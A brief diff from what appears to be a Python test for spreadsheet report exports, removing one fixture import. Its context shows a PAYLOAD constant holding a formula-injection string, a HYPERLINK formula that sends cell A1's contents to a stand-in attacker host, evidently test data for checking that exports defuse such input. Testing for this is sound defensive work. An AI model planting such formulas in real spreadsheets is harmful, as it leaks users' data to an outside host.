@@ -4,7 +4,7 @@ import io
 
 import openpyxl
 
-from tests.reports.test_lists_submit import login, send  # noqa: F401 - fixtures
+from tests.reports.test_lists_submit import send  # noqa: F401 - fixtures
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
